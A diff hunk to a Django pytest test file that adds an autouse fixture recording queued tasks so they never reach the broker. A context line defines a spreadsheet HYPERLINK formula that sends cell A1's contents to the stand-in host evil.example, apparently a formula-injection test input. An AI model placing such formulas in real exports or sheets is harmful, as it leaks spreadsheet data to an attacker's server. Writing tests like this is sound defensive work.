@@ -37,6 +37,13 @@ from tests.refunds.test_console import make_refund
 
 pytestmark = pytest.mark.django_db
 
+
+@pytest.fixture(autouse=True)
+def _no_broker(enqueued: EnqueuedTasks) -> EnqueuedTasks:
+    """Tasks queued by the code under test are recorded, never sent to the test broker."""
+    return enqueued
+
+
 ORDERS_URL = "/app/orders/"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
